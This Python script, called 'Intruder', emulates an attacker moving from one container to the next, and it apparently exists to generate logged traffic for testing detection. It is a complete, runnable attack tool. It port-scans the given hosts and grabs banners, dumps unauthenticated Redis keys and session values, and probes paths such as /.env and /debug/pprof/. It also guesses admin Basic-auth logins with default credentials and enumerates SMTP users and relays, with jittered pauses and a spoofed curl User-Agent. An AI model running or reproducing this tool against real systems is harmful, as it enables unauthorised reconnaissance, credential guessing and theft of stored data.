"""What somebody does who holds one pod and wants the next: looks, tries, takes.

Owns: the order (each host's ports, then what answers is tried, then something is copied), the pauses. Refuses: more
than one round over the hosts that it is given. Prints a line for each connection: time, own address, own port,
peer, peer's port, what for.
"""

from __future__ import annotations

import argparse
import base64
import random
import signal
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager

LOGINS = (("admin", "admin"), ("root", "toor"), ("deploy", "deploy"), ("guest", "guest"))
PATHS = ("/", "/admin/", "/.env", "/metrics", "/api/items", "/server-status", "/private/", "/debug/pprof/")
REDIS = (b"PING", b"INFO", b"CONFIG GET dir", b"DBSIZE", b"KEYS *", b"CLIENT LIST")
SIP_BYTES = 1 << 16


class Intruder:
    """One walk over some hosts."""

    def __init__(self, words: argparse.Namespace) -> None:
        self._words, self._rng = words, random.Random(words.seed)

    def walk(self) -> None:
        """Host after host."""
        words = self._words
        for host in words.hosts.split(","):
            ports = [int(port) for port in words.ports.split(",")]
            self._rng.shuffle(ports)
            for port in [port for port in ports if self._answers(host, port)]:
                try:
                    TRIES.get(port, Intruder.banner)(self, host, port)
                except OSError:
                    continue
                finally:
                    self._rest()

    @contextmanager
    def _open(self, host: str, port: int, why: str) -> Iterator[socket.socket]:
        with socket.socket() as sock:
            sock.settimeout(3)
            try:
                sock.connect((host, port))
            finally:
                print(f"{time.time():.6f}", *sock.getsockname(), host, port, why, flush=True)
            yield sock

    def _answers(self, host: str, port: int) -> bool:
        self._rest()
        try:
            with self._open(host, port, "look"):
                return True
        except OSError:
            return False

    def banner(self, host: str, port: int) -> None:
        """What the service says by itself."""
        with self._open(host, port, "banner") as sock:
            sock.sendall(b"\r\n\r\n")
            sock.recv(512)

    def redis(self, host: str, port: int) -> None:
        """A database without a password is read whole."""
        with self._open(host, port, "redis") as sock:
            for command in REDIS:
                sock.sendall(command + b"\r\n")
                sock.recv(SIP_BYTES)
                self._rest(0.3)
            for number in range(self._words.copies):
                sock.sendall(b"GET session:%d\r\n" % number)
                sock.recv(SIP_BYTES)

    def http(self, host: str, port: int) -> None:
        """Pages that should not be there; one is asked with guessed passwords."""
        tries = [(path, "") for path in self._rng.sample(PATHS, min(len(PATHS), self._words.tries))]
        tries += [("/admin/", base64.b64encode(":".join(login).encode()).decode()) for login in LOGINS]
        for path, login in tries:
            with self._open(host, port, "http") as sock:
                allowed = f"Authorization: Basic {login}\r\n" if login else ""
                head = f"GET {path} HTTP/1.0\r\nHost: {host}\r\nUser-Agent: curl/7.88.1\r\n{allowed}\r\n"
                sock.sendall(head.encode())
                while sock.recv(SIP_BYTES):
                    pass
            self._rest(0.3)
        for _ in range(self._words.copies // 20):
            with self._open(host, port, "copy") as sock:
                sock.sendall(f"GET /files/manual.pdf HTTP/1.0\r\nHost: {host}\r\n\r\n".encode())
                while sock.recv(SIP_BYTES):
                    pass

    def smtp(self, host: str, port: int) -> None:
        """Is the relay open, and whom does it know?"""
        with self._open(host, port, "smtp") as sock:
            sock.recv(512)
            for line in ("EHLO pod", "VRFY root", "VRFY admin", "MAIL FROM:<a@pod>", "RCPT TO:<b@example.org>", "QUIT"):
                sock.sendall(f"{line}\r\n".encode())
                sock.recv(512)

    def _rest(self, part: float = 1.0) -> None:
        time.sleep(self._words.pause * part * self._rng.uniform(0.3, 1.7))


TRIES: dict[int, Callable[[Intruder, str, int], None]] = {
    25: Intruder.smtp, 80: Intruder.http, 8080: Intruder.http, 9100: Intruder.http, 6379: Intruder.redis,
}

if __name__ == "__main__":
    # Whoever ends it wants to hear nothing.
    signal.signal(signal.SIGINT, signal.SIG_DFL)
    parser = argparse.ArgumentParser()
    parser.add_argument("--hosts", required=True)
    parser.add_argument("--ports", default="22,25,80,514,2375,3306,5432,6379,8080,9100,10250,50051")
    for name, default in (("--tries", 4), ("--copies", 40), ("--seed", 0)):
        parser.add_argument(name, type=int, default=default)
    parser.add_argument("--pause", type=float, default=0.3)
    Intruder(parser.parse_args()).walk()
